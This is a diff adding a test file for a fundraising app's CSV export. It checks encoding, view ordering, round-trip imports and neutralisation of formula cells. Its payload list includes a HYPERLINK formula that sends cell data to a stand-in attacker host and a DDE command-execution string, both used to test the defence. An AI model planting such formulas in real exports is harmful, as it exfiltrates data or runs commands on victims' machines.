@@ -1,0 +1,123 @@
+import Papa from 'papaparse';
+import { baseIds, startTestApp, TestApp } from '../support/test-app';
+import { commitOk, fixture, uploadOk } from '../support/imports';
+
+/** Parses an export the way a spreadsheet program's CSV reader does (RFC 4180). */
+function readCsv(text: string): string[][] {
+  const parsed = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { delimiter: ',', newline: '\r\n', skipEmptyLines: true });
+  expect(parsed.errors).toEqual([]);
+  return parsed.data;
+}
+
+const INJECTIONS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1', ' =1+1', '"=1+1', '＝1+1',
+];
+
+describe('CSV export', () => {
+  let t: TestApp;
+  let ids: Awaited<ReturnType<typeof baseIds>>;
+  beforeAll(async () => {
+    t = await startTestApp();
+    ids = await baseIds(t);
+  });
+  afterAll(() => t.close());
+
+  const exportTable = async (tableId: string) => {
+    const res = await t.http().get(`/api/fundraising/tables/${tableId}/export.csv`).buffer(true).parse((r, cb) => {
+      const chunks: Buffer[] = [];
+      r.on('data', (c: Buffer) => chunks.push(c));
+      r.on('end', () => cb(null, Buffer.concat(chunks)));
+    }).expect(200);
+    return { res, bytes: res.body as Buffer, text: (res.body as Buffer).toString('utf8') };
+  };
+
+  it('writes RFC 4180 with a UTF-8 byte-order mark, CRLF, and the table’s default view order', async () => {
+    const session = await uploadOk(t, fixture('airtable-investors.csv'), { table_id: ids.investors, merge_fields: '["Name"]' });
+    await commitOk(t, session.id);
+    const { res, bytes, text } = await exportTable(ids.investors);
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="Investors.csv"/);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(text.split('\r\n')[0].startsWith('\uFEFFName,Type,Status,Pipeline stage')).toBe(true);
+    const rows = readCsv(text);
+    const header = rows[0];
+    const acme = rows.find((r) => r[0] === 'Acme Family Office')!;
+    const col = (name: string) => acme[header.indexOf(name)];
+    expect(col('Target commitment')).toBe('$5,000,000');
+    expect(col('Anchor LP')).toBe('checked');
+    expect(col('Last contacted')).toBe('2026-01-31');
+    expect(col('Tags')).toBe('Warm intro,Anchor');
+    expect(col('Notes')).toBe('Met at the AGM in London.\nWants quarterly reporting, "full transparency" and a seat on the LPAC.');
+    expect(col('Pitch deck')).toBe('Acme deck.pdf (https://dl.airtable.com/.attachments/a1/acme-deck.pdf)');
+    expect(col('Phone')).toBe("'+44 20 7946 0958");
+  });
+
+  it('prefixes every cell a spreadsheet would run as a formula, and leaves numbers alone', async () => {
+    const amount = ids.inv('target_commitment');
+    const changes = INJECTIONS.map((text, i) => ({ op: 'create', table_id: ids.investors, values: { [ids.inv('name')]: `Injection ${i}`, [ids.inv('notes')]: text, [amount]: -(i + 1) * 1000 } }));
+    await t.http().post('/api/fundraising/changes').send({ changes }).expect(200);
+    const { text } = await exportTable(ids.investors);
+    const rows = readCsv(text);
+    const header = rows[0];
+    for (const [i, injected] of INJECTIONS.entries()) {
+      const row = rows.find((r) => r[0] === `Injection ${i}`)!;
+      expect(row[header.indexOf('Notes')]).toBe(`'${injected}`);
+      expect(row[header.indexOf('Target commitment')]).toBe(`-$${((i + 1) * 1000).toLocaleString('en-US')}`);
+    }
+    // Quoted in the file too, so a reader that trims or splits naively still sees one text cell.
+    expect(text).toContain('"\'=cmd|\' /C calc\'!A0"');
+    expect(text).toContain(`"'+1+1"`);
+  });
+
+  it('guards a field name too', async () => {
+    const res = await t.http().post('/api/fundraising/tables').send({ name: 'Odd headers', fields: [{ name: 'Name', type: 'text' }, { name: '=1+2', type: 'number' }] }).expect(201);
+    const { text } = await exportTable(res.body.table.id);
+    expect(readCsv(text)[0]).toEqual(['Name', "'=1+2"]);
+  });
+
+  it('imports back with a merge key and changes nothing', async () => {
+    const { bytes } = await exportTable(ids.investors);
+    const session = await uploadOk(t, bytes, { table_id: ids.investors, merge_fields: '["Name"]' }, 'Investors.csv');
+    expect(session.plan).toMatchObject({ create: 0, update: 0, errors: [] });
+    expect(session.plan.unchanged).toBe(5 + INJECTIONS.length);
+    const before = t.core.store.lastPosition();
+    expect(await commitOk(t, session.id)).toMatchObject({ created: 0, updated: 0 });
+    expect(t.core.store.lastPosition()).toBe(before);
+  });
+
+  it('round-trips linked records whose names hold commas and quotes', async () => {
+    await commitOk(t, (await uploadOk(t, fixture('airtable-contacts.csv'), { table_id: ids.contacts, merge_fields: '["Email"]' }, 'contacts.csv')).id).catch(() => undefined);
+    const again = await uploadOk(t, fixture('airtable-contacts.csv'), { table_id: ids.contacts, merge_fields: '["Email"]' }, 'contacts.csv');
+    await t.http().patch(`/api/fundraising/imports/${again.id}`).send({ options: { create_missing_links: true } }).expect(200);
+    await commitOk(t, again.id);
+    const { bytes, text } = await exportTable(ids.contacts);
+    const rows = readCsv(text);
+    const bea = rows.find((r) => r[0] === 'Bea Best')!;
+    expect(bea[rows[0].indexOf('Investor')]).toBe('"The ""Best"" Fund of Funds",Acme Family Office');
+    const back = await uploadOk(t, bytes, { table_id: ids.contacts, merge_fields: '["Email"]' }, 'Contacts.csv');
+    expect(back.plan).toMatchObject({ create: 0, update: 0, errors: [] });
+  });
+
+  it('exports a view with its own field order and hidden fields, and 404s for an unknown one', async () => {
+    const fields = t.core.repo.table(ids.investors)!.fields;
+    const order = [ids.inv('name'), ids.inv('target_commitment'), ids.inv('stage')];
+    const config = {
+      field_order: order, hidden_fields: fields.filter((f) => !order.includes(f.id)).map((f) => f.id),
+      filters: { conjunction: 'and', conditions: [{ field_id: ids.inv('target_commitment'), operator: '>', value: 1_000_000 }] },
+      sorts: [{ field_id: ids.inv('target_commitment'), direction: 'desc' }],
+    };
+    const view = await t.http().post('/api/fundraising/views').send({ table_id: ids.investors, name: 'Pipeline', config }).expect(201);
+    const res = await t.http().get(`/api/fundraising/views/${view.body.view.id}/export.csv`).expect(200);
+    expect(res.headers['content-disposition']).toMatch(/filename="Investors - Pipeline.csv"/);
+    expect(readCsv(res.text)).toEqual([
+      ['Name', 'Target commitment', 'Pipeline stage'],
+      ['Zeta Pension', '$20,000,000', 'Passed'],
+      ['Northwind Endowment', '$10,000,000', 'Engaged'],
+      ['Acme Family Office', '$5,000,000', 'Committed'],
+      ['Smith, Jones & Co', '$1,250,000', 'Diligence'],
+    ]);
+    await t.http().get('/api/fundraising/views/viwNope/export.csv').expect(404);
+    await t.http().get('/api/fundraising/tables/tblNope/export.csv').expect(404);
+    await t.anon().get(`/api/fundraising/tables/${ids.investors}/export.csv`).expect(401);
+  });
+});
